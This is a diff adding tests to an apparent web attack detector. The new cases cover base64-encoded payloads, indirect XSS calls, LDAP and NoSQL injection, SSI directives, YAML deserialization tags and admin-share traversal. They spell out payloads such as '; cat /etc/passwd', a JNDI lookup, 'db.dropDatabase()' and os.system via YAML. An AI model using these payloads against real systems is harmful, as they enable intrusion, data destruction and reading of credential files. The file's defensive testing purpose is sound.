@@ -892,3 +892,80 @@ describe("more PHP-only functions, names glued to junk, and a quoted name in par
     for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Cmdi)).toBe(false, other[i]);
   });
 });
+
+function any(s: string): AttackClass { const b = String.UTF8.encode(s); return detectAttackAny(changetype<usize>(b), b.byteLength); }
+describe("values that are base64-encoded text, read decoded", () => {
+  it("flags attacks sent base64-encoded, padded or not, standard or URL-safe, a path's leading '/' skipped", () => {
+    expect(any("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg")).toBe(AttackClass.Xss);     // <script>alert(1)</script>
+    expect(any("JyBvciAxPTEtLQ==")).toBe(AttackClass.Sqli);                        // ' or 1=1--
+    expect(any("OyBjYXQgL2V0Yy9wYXNzd2Q")).toBe(AttackClass.Cmdi);                 // ; cat /etc/passwd
+    expect(any("/Li4vLi4vLi4vZXRjL3Bhc3N3ZA")).toBe(AttackClass.Traversal);       // /../../../etc/passwd
+    expect(any("JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0")).toBe(AttackClass.Jndi);    // ${jndi:ldap://x.example/a}
+    expect(any("PDxzY3IAaXB0L3NyYz1odHRwOi8veHNzLmNvbS94c3MuanM-PC9zY3JpcHQ")).toBe(AttackClass.Xss); // NUL inside, URL-safe '-'
+  });
+  it("leaves encoded text without an attack, binary, ids and words alone", () => {
+    expect(any("U3ByaW5nZmllbGQgaXMgYSBuaWNlIHRvd24")).toBe(AttackClass.None);  // Springfield is a nice town
+    expect(any("eyJ1c2VyIjoiYm9iIiwicm9sZSI6InJlYWRlciJ9")).toBe(AttackClass.None); // {"user":"bob","role":"reader"}
+    expect(any("q83vEjRWeJq8")).toBe(AttackClass.None);                             // binary
+    expect(any("Springfield")).toBe(AttackClass.None);
+    expect(any("550e8400e29b41d4a716446655440000")).toBe(AttackClass.None);
+    expect(any("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg===")).toBe(AttackClass.None);    // three '=' is no base64
+    expect(any("PHNjcmlwdD5h=bGVydCgxKTwvc2NyaXB0Pg")).toBe(AttackClass.None);     // '=' inside
+  });
+});
+
+describe("dialogs called indirectly (xss)", () => {
+  it("flags call/apply/bind, parenthesized callees and optional chaining", () => {
+    const calls: StaticArray<string> = ["alert.call(null,1)", "alert.apply(null, [1])", "(alert)(1)", "confirm.call(null,1)", "prompt.call(null,1)",
+      "alert?.(document?.cookie)", "\"onClick=\"(prompt)(1)", "alert.call(%20, \"XSS\");", "(0,eval)('x')", "window.alert.call(null,1)", "(alert)(document.domain)"];
+    for (let i = 0; i < calls.length; i++) expect(hits(calls[i], AttackClass.Xss)).toBe(true, calls[i]);
+  });
+  it("leaves methods of objects, prose and other calls alone", () => {
+    const other: StaticArray<string> = ["res.confirm.call(x)", "Please (confirm)(required)", "(confirm)(details)", "I called alert.call yesterday",
+      "fn.call(null, 1)", "myalert.call(1)", "`alert.call(null,1)`"];
+    for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Xss)).toBe(false, other[i]);
+  });
+});
+
+describe("LDAP filters that widen or probe a search, and extensible matches on the password (protocol)", () => {
+  it("flags them", () => {
+    const ldap: StaticArray<string> = ["(&(uid=admin)(!(&(1=0)(userPassword=q))))", "*(|(objectclass=*))", "userPassword:2.5.13.18:=123",
+      "userPassword:dn:=x", "(|(uid=a)(&))", "(&(cn=x)(unicodePwd=y))"];
+    for (let i = 0; i < ldap.length; i++) expect(hits(ldap[i], AttackClass.Protocol)).toBe(true, ldap[i]);
+  });
+  it("leaves a directory tool's own filters (CRS 921200's legitimate cases) and prose alone", () => {
+    const other: StaticArray<string> = ["(&(objectCategory=computer)  (userAccountControl:1.2.840.113556.1.4.803:=8192))",
+      "(userAccountControl:1.2.840.113556.1.4.803:=67108864)(&(objectCategory=group)(groupType:1.2.840.113556.1.4.803:=2147483648))",
+      "x := 1.2", "time 10:30:=", "(& more)", "(1=0) is false"];
+    for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Protocol)).toBe(false, other[i]);
+  });
+});
+
+describe("NoSQL: unquoted operators, shell commands and busy loops (sqli)", () => {
+  it("flags them", () => {
+    const nosql: StaticArray<string> = ["', $or: [ {}, { 'order':'order", "true, $where: '99 == 88'", "{ $gt: 5 }", "db.injection.insert({success:1});",
+      "db.getCollection('users').find()", "db.dropDatabase()", ";var date = new Date(); do{curDate = new Date();}while(curDate-date<10000)"];
+    for (let i = 0; i < nosql.length; i++) expect(hits(nosql[i], AttackClass.Sqli)).toBe(true, nosql[i]);
+  });
+  it("leaves prices, variables and methods of other objects alone", () => {
+    const other: StaticArray<string> = ["it costs $in: total", "price: $5", "mydb.find(x)", "use db.find in docs", "do { x++ } while (x < 3)"];
+    for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Sqli)).toBe(false, other[i]);
+  });
+});
+
+describe("SSI directives, YAML language tags, PHP's silenced call in ${}, SET /A, printf|rev (cmdi) and admin shares (traversal)", () => {
+  it("flags them", () => {
+    const cmdi: StaticArray<string> = ["<!--#exec cmd=\"ls\" -->", "<!--#include virtual=\"/index.html\" -->", "<!--#echo var=\"DOCUMENT_ROOT\" -->",
+      "!!python/object/apply:os.system [\"id\"]", "!!python/object/new:exec [import socket]", "!ruby/object:Gem::Installer",
+      "!!javax.script.ScriptEngineManager [x]", "cmd=${@print(md5(31337))}", "| set /a 3482*7301", "x & set /p v=", "a;$(printf 'abc'|rev)"];
+    for (let i = 0; i < cmdi.length; i++) expect(hits(cmdi[i], AttackClass.Cmdi)).toBe(true, cmdi[i]);
+    expect(hits("\\\\::1\\c$\\users\\default\\ntuser.dat", AttackClass.Traversal)).toBe(true);
+    expect(hits("//10.0.0.5/admin$/system32", AttackClass.Traversal)).toBe(true);
+  });
+  it("leaves comments, exclamations, prose and other shares alone", () => {
+    const other: StaticArray<string> = ["<!-- #comment -->", "Great!java.com is nice", "please set /a value", "I set the alarm", "Use printf to print",
+      "${name}", "Hello!python/x"];
+    for (let i = 0; i < other.length; i++) expect(bits(other[i])).toBe(0, other[i]);
+    expect(hits("\\\\server\\share\\doc", AttackClass.Traversal)).toBe(false);
+  });
+});
